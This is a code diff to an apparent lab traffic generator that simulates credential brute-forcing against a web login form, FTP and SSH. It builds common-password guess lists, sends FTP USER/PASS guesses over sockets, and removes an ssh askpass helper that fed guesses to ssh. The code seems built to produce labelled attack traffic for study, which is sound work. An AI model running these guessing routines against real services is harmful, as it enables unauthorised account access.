@@ -4,33 +4,36 @@ from __future__ import annotations
 
 import platform
 import socket
+from random import Random
 
-from probing.lab.clients.sql import FOUND, PATIENCE_S, Visit, end, way_of
+from probing.lab.clients.shop import ACCOUNT, FOUND, LOGIN, PATIENCE_S, Step, Visit, end, way_of
+from probing.lab.clients.shop_pages import first_pages, last_pages
+from probing.lab.clients.ssh_passwords import log_in
 from probing.lab.errors import LabError
 from probing.lab.isolation import PASSWORD, USER
 from probing.lab.session import Session, program_version
 
-LOGIN = "/login.php"
 FTP_PORT = 21
 FTP_TRIES, SSH_TRIES = 3, 5  # most guesses in one connection; after these, or one more, the servers close it
 BASES = ("password", "welcome", "dragon", "monkey", "sunshine", "shadow", "master", "letmein", "football", "qwerty",
          "princess", "iloveyou", "charlie", "summer", "winter", "autumn", "spring", "london", "secret", "hunter",
          "tigger", "flower", "coffee", "purple", "orange", "banana", "guitar", "freedom", "starwars")  # fmt: skip
-ASKPASS = """#!/bin/sh
-# prints the next password of a list
-head -n 1 "$LAB_GUESSES"
-sed -i 1d "$LAB_GUESSES"
-"""
-SSH_OPTIONS = {
-    "PreferredAuthentications": "password", "PubkeyAuthentication": "no", "StrictHostKeyChecking": "no",
-    "UserKnownHostsFile": "/dev/null", "LogLevel": "ERROR", "ConnectTimeout": "60",
-}  # fmt: skip
 
 
 def guesses(session: Session) -> list[str]:
-    """``guesses`` different passwords; in half of all lists the right one is among them."""
-    rng, words = session.rng, dict[str, None]()
-    while len(words) < session.parameters.guesses:
+    """The passwords that this sample tries: its part of a list of ``guesses`` different ones.
+
+    Consecutive samples share a list, as many as ``parts``.
+    """
+    parts = session.parameters.parts
+    rng = session.rng if parts == 1 else Random(f"{session.seed}/list {session.sample // parts}")
+    return word_list(rng, session.parameters.guesses)[session.sample % parts :: parts]
+
+
+def word_list(rng: Random, n: int) -> list[str]:
+    """n different passwords, as people choose them; in half of all lists one of them is the right one."""
+    words = dict[str, None]()
+    while len(words) < n:
         word = rng.choice(BASES)
         word = word.capitalize() if rng.random() < 0.3 else word
         words[f"{word}{rng.choice(('', '!', '#'))}{rng.randrange(2100)}"] = None
@@ -58,16 +61,29 @@ class Form:
     programs: tuple[str, ...] = ()
 
     def perform(self, session: Session) -> None:
-        """Do form-guess."""
+        """Do form-guess or form-visit."""
         visit = Visit(session, ends=way_of(session, "fin", "rst"))
-        session.outcome(False)
-        for word in guesses(session):
-            page = visit.ask(LOGIN, {"name": USER, "password": word}, phase="guess")
-            if page.status == FOUND:
-                session.outcome(True)
-                break
+        around = session.activity == "form-visit"
+        before = [*first_pages(session, login_follows=True), Step(LOGIN)] if around else []
+        after = last_pages(session) if around else []
+        words = guesses(session)
+        for step in before:
+            visit.ask(step)
+        session.outcome(self._guess(visit, words))
+        if session.span.succeeded and around:
+            visit.ask(Step(ACCOUNT, at_once=True))
+        for step in after:
+            visit.ask(step)
         visit.leave()
         session.span.content_bytes = None  # forms and pages do not count as content
+
+    def _guess(self, visit: Visit, words: list[str]) -> bool:
+        """Fill in the form until a password is right; whether one is."""
+        for word in words:
+            page = visit.ask(Step(LOGIN, {"name": USER, "password": word}, phase="guess"))
+            if page.status == FOUND:
+                return True
+        return False
 
     def version(self) -> str:
         """The version of Python, which runs this."""
@@ -91,11 +107,14 @@ class Ftp:
         """Whether one of a connection's words is accepted."""
         session.mark("connect")
         at = socket.create_connection((session.server, FTP_PORT), PATIENCE_S)
-        session.claim(at.getsockname()[1])
+        port = at.getsockname()[1]
+        session.claim(port, attempts=0, carries_attack=False)
         said = _hear(at, b"220")
         for word in words:
             session.pause()
+            session.think()
             session.mark("guess")
+            session.attempt(port, attack=True)
             _say(at, f"USER {USER}", b"331")
             said = _say(at, f"PASS {word}", b"230", b"530")
             if said == b"230":
@@ -137,31 +156,13 @@ class Ssh:
     def perform(self, session: Session) -> None:
         """Do ssh-guess."""
         only_fin(session, "ssh")
-        helper = session.folder / "askpass"
-        helper.write_text(ASKPASS)
-        helper.chmod(0o700)
         session.outcome(False)
         for words in in_parts(session, SSH_TRIES):
             session.mark("guess")
-            if self._connection(session, words):
+            if log_in(session, words, attack=True):
                 session.outcome(True)
                 break
             session.pause()
-
-    def _connection(self, session: Session, words: list[str]) -> bool:
-        """Whether one of a connection's words is accepted."""
-        listed = session.folder / "guesses"
-        listed.write_text("".join(f"{word}\n" for word in words))
-        options = SSH_OPTIONS | {"NumberOfPasswordPrompts": f"{len(words)}"}
-        done = session.run(
-            "ssh", "-F", "none", *(f"-o{name}={value}" for name, value in options.items()),
-            f"{USER}@{session.server}", "true", ok=(0, 255), seconds=2 * PATIENCE_S,
-            env={"SSH_ASKPASS": f"{session.folder}/askpass", "SSH_ASKPASS_REQUIRE": "force",
-                 "LAB_GUESSES": f"{listed}"},
-        )  # fmt: skip
-        if done.returncode and b"Permission denied" not in done.stderr:
-            raise LabError(f"ssh: {done.stderr.decode(errors='replace').strip()[-400:]}")
-        return done.returncode == 0
 
     def version(self) -> str:
         """The version of the program."""
